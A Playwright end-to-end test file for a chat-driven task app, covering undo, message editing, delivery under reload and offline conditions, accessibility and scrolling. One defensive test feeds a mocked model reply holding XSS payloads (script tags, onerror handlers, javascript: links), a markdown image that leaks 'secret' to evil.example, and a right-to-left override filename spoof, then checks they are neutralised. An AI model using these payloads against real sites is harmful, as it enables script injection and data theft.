/** What one can do in the conversation beside talking, and what keeps it whole and safe. */
import { expect, type Page, test } from '@playwright/test';
import { expectNoBarrier } from '../instruments/axe.ts';
import {
  conversation,
  enter,
  expectConversation,
  expectTasks,
  messageBox,
  reload,
  say,
  sendOff,
  turnTo,
  untilStreamed,
} from '../people/at-browser.ts';
import { newPerson } from '../people/person.ts';
import { streamOf } from '../product/stand-in-answer.ts';

const undo = (page: Page) => page.getByRole('button', { name: 'Undo', exact: true });
const list = (page: Page) => page.getByRole('list', { name: 'Conversation' });
/** The route that sends a message. */
const SEND = /\/api\/[^/]+\/chat$/;

test('what was done is told, opened by keyboard and undone in place', async ({ page }) => {
  await enter(page, newPerson());
  const added = await say(page, 'Add a task to buy milk tomorrow');
  const told = added.getByRole('button', { name: /^Added Buy milk, due tomorrow/ });
  await told.focus();
  await page.keyboard.press('Enter');
  await expect(added.getByText('"status": "created"')).toBeVisible();
  await expectNoBarrier(page);
  await page.keyboard.press('Enter');
  await page.keyboard.press('Tab');
  await expect(undo(page)).toBeFocused();
  await page.keyboard.press('Enter');
  await expect(added).toContainText('Off the list again');
  await expect(told).toBeFocused();
  await expectTasks(page, []);

  await turnTo(page, 'Chat');
  const { id } = await (await page.request.get('/api/auth/get-session')).json().then(({ user }) => user);
  await page.request.post(`/api/${id}/tasks`, {
    headers: { origin: new URL(page.url()).origin },
    data: { title: 'Water the plants', recurrence: 'FREQ=WEEKLY;BYDAY=MO' },
  });
  const done = await say(page, 'Mark water the plants as complete');
  await expect(done).toContainText(/Completed Water the plants; the next one is due/);
  await undo(page).click();
  await expect(done).toContainText('Open again');
  await expectTasks(page, ['Water the plants']);

  await turnTo(page, 'Chat');
  const moved = await say(page, 'Rename water the plants to feed the cat');
  await expect(moved).toContainText('Renamed Water the plants to Feed the cat');
  await undo(page).click();
  await expect(moved).toContainText('As it was');
  await expectTasks(page, ['Water the plants']);
});

test('a message is edited and sent again, an answer had again, and nothing is done twice', async ({
  page,
}) => {
  await enter(page, newPerson());
  await say(page, 'Add a task to buy mlik');
  await say(page, 'Show me all my tasks');

  await test.step('edited, after what it did is undone', async () => {
    const own = list(page).getByRole('listitem').first();
    await own.hover();
    await own.getByRole('button', { name: 'Edit' }).click();
    const field = page.getByRole('textbox', { name: 'Edit your message' });
    await expect(field).toBeFocused();
    await expect(page.getByRole('checkbox', { name: 'Undo it first' })).toBeChecked();
    await expectNoBarrier(page);
    await field.fill('Add a task to buy milk');
    await field.press('Enter');
    await expect(list(page).locator('> li')).toHaveCount(2);
    await expect(list(page)).toContainText('Added Buy milk');
    await expectTasks(page, ['Buy milk']);
  });

  await test.step('what is not undone stays in sight, and after a reload', async () => {
    await turnTo(page, 'Chat');
    const own = list(page).getByRole('listitem').first();
    await own.hover();
    await own.getByRole('button', { name: 'Edit' }).click();
    await page.getByRole('checkbox', { name: 'Undo it first' }).uncheck();
    await page.getByRole('textbox', { name: 'Edit your message' }).fill('Show me all my tasks');
    await page.getByRole('button', { name: 'Send again' }).click();
    await expect(list(page)).toContainText('What was done before stays, unless you undo it:');
    await expect(list(page)).toHaveAttribute('aria-busy', 'false');
    await expect(list(page).locator('> li').last()).toContainText('#2 Buy milk');
    await expectNoBarrier(page);
    const before = await conversation(page);
    await reload(page);
    await expectConversation(page, before);
  });

  await test.step('answered again, once', async () => {
    const streamed = untilStreamed(page);
    await page.getByRole('button', { name: 'Answer again' }).click();
    await streamed;
    await expect(list(page)).toHaveAttribute('aria-busy', 'false');
    await expect(list(page).locator('> li')).toHaveCount(3);
    await undo(page).click();
    await expectTasks(page, []);
  });
});

test('suggestions come from the own tasks; a draft waits; an answer is copied', async ({ page, context }) => {
  const { origin } = new URL(test.info().project.use.baseURL ?? '');
  // Under a plain http address that is not this machine's own, browsers let nobody look into the clipboard.
  const mayRead = /^(https:|http:\/\/(localhost|127\.0\.0\.1)(:|$))/.test(origin);
  if (mayRead) await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
  await enter(page, newPerson());
  await expect(page.getByRole('button', { name: 'Add a task to buy groceries' })).toBeVisible();
  await say(page, 'Add a task to call the dentist today');

  await page.getByRole('button', { name: 'Copy the answer' }).click();
  await expect(page.getByText(/^Copied\.$/)).toBeAttached();
  if (mayRead)
    expect(await page.evaluate(() => navigator.clipboard.readText())).toContain('Call the dentist');

  await page.getByRole('button', { name: 'New conversation' }).click();
  await expect(page.getByRole('button', { name: 'What’s due today?' })).toBeVisible();
  await expectNoBarrier(page);
  await messageBox(page).fill('Mark “Call the');
  await reload(page);
  await expect(messageBox(page)).toHaveValue('Mark “Call the');
  await page.getByRole('button', { name: 'Mark “Call the dentist” as complete' }).click();
  await expect(list(page)).toContainText('Completed Call the dentist');
  await expectTasks(page, ['✓ Call the dentist']);
});

test('a message is neither lost nor doubled: answer lost, page reloaded, no network', async ({
  page,
  context,
}) => {
  await enter(page, newPerson());

  await test.step('it arrived, and the page is reloaded before the answer', async () => {
    let held = 0;
    await page.route(
      SEND,
      async (route) => {
        await route.fetch();
        held += 1;
      },
      { times: 1 },
    );
    await sendOff(page, 'Add a task to buy milk');
    await expect.poll(() => held).toBe(1);
    await reload(page);
    await expect(list(page)).toContainText('Added Buy milk');
    await expect(list(page).locator('> li')).toHaveCount(2);
  });

  await test.step('it arrived, and the connection broke', async () => {
    await page.route(
      SEND,
      async (route) => {
        await route.fetch();
        await route.abort('connectionreset');
      },
      { times: 1 },
    );
    await sendOff(page, 'Add a task to buy bread');
    await expect(list(page)).toContainText('Added Buy bread');
    await expect(list(page).locator('> li')).toHaveCount(4);
  });

  await test.step('there is no network for a while', async () => {
    await context.setOffline(true);
    await sendOff(page, 'Add a task to buy eggs');
    await expect(page.getByText('The connection was lost. Reconnecting…')).toBeVisible();
    await context.setOffline(false);
    await expect(list(page)).toContainText('Added Buy eggs');
    await expect(list(page).locator('> li')).toHaveCount(6);
  });

  const before = await conversation(page);
  await reload(page);
  await expectConversation(page, before);
  await expectTasks(page, ['Buy milk', 'Buy bread', 'Buy eggs']);
});

test('what a model says can neither run, nor load, nor lead astray', async ({ page }) => {
  await enter(page, newPerson());
  const elsewhere: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('evil.example')) elsewhere.push(request.url());
  });
  page.on('dialog', (dialog) => elsewhere.push(dialog.message()));
  const hostile = [
    '<img src="https://evil.example/a.png" onerror="alert(1)"><script>alert(2)</script>',
    '![seen](https://evil.example/b.png?q=secret)',
    '[a link](https://evil.example/c) and [a script](javascript:alert(3))',
    '<a href="https://evil.example/d" onclick="alert(4)">raw</a>',
    'turned \u202e round',
    '# A heading',
  ].join('\n\n');
  const title = '<img src=https://evil.example/e.png onerror=alert(5)> \u202egnp.exe';
  await page.route(SEND, (route) =>
    route.fulfill({
      headers: { 'content-type': 'text/event-stream', 'x-vercel-ai-ui-message-stream': 'v1' },
      body: streamOf({ text: hostile, added: title }),
    }),
  );
  await say(page, 'hello');
  const answer = list(page).locator('> li').last();
  await expect(answer).toContainText('Added <img src=https://evil.example/e.png');
  await expect(answer.locator('img, script, iframe, h1, h2')).toHaveCount(0);
  await expect(answer.getByRole('link', { name: 'a link' })).toHaveAttribute(
    'rel',
    'noopener noreferrer nofollow',
  );
  await expect(answer.locator('a[href^="javascript"], [onclick], [onerror]')).toHaveCount(0);
  // Words that turn the direction end with their own line.
  const composer = await messageBox(page).evaluate((box) => getComputedStyle(box).direction);
  expect(composer).toBe('ltr');
  await expectNoBarrier(page);
  expect(elsewhere).toEqual([]);
});

test('whole sentences are read out, not the words as they come', async ({ page }) => {
  await enter(page, newPerson());
  await page.evaluate(() => {
    const heard: string[] = [];
    Object.assign(window, { heard });
    new MutationObserver((changes) => {
      for (const { target } of changes) {
        const node = target instanceof Element ? target : target.parentElement;
        const region = node?.closest(
          '[aria-live=polite], [aria-live=assertive], [role=status], [role=alert]',
        );
        const text = region?.textContent?.trim();
        if (text && heard.at(-1) !== text) heard.push(text);
      }
    }).observe(document.body, { childList: true, characterData: true, subtree: true });
  });
  await page.route(SEND, (route) =>
    route.fulfill({
      headers: { 'content-type': 'text/event-stream', 'x-vercel-ai-ui-message-stream': 'v1' },
      body: streamOf({ text: 'You have **three** tasks. The first is due today.' }),
    }),
  );
  await say(page, 'hello');
  await expect
    .poll(() => page.evaluate(() => (window as unknown as { heard: string[] }).heard))
    .toEqual(['You have three tasks. The first is due today.']);
});

test('who reads further up stays there, and is told of what is new', async ({ page }) => {
  await enter(page, newPerson());
  const long = Array.from({ length: 60 }, (_, line) => `- Line ${line}.`).join('\n');
  const line = (number: number) => page.getByText(`Line ${number}.`, { exact: true });
  await page.route(
    SEND,
    (route) =>
      route.fulfill({
        headers: { 'content-type': 'text/event-stream', 'x-vercel-ai-ui-message-stream': 'v1' },
        body: streamOf({ text: long }),
      }),
    { times: 1 },
  );
  await say(page, 'hello');
  await expect(line(59)).toBeInViewport();
  const latest = page.getByRole('button', { name: 'Jump to the latest' });
  await line(5).scrollIntoViewIfNeeded();
  await expect(latest).toBeVisible();
  await expectNoBarrier(page);
  await latest.click();
  await expect(line(59)).toBeInViewport();
  await expect(latest).toBeHidden();

  // An answer that comes while one reads further up leaves one there.
  let answer = () => {};
  const held = new Promise<void>((resolve) => {
    answer = resolve;
  });
  await page.route(SEND, async (route) => {
    await held;
    await route.fulfill({
      headers: { 'content-type': 'text/event-stream', 'x-vercel-ai-ui-message-stream': 'v1' },
      body: streamOf({ text: 'That was all.', id: 'second' }),
    });
  });
  await sendOff(page, 'and then?');
  await expect(page.getByRole('button', { name: 'Stop' })).toBeVisible();
  await line(5).scrollIntoViewIfNeeded();
  await expect(latest).toBeVisible();
  answer();
  const news = page.getByRole('button', { name: 'New messages' });
  await expect(news).toBeVisible();
  await expect(line(5)).toBeInViewport();
  await news.click();
  await expect(list(page).getByText('That was all.')).toBeInViewport();
});
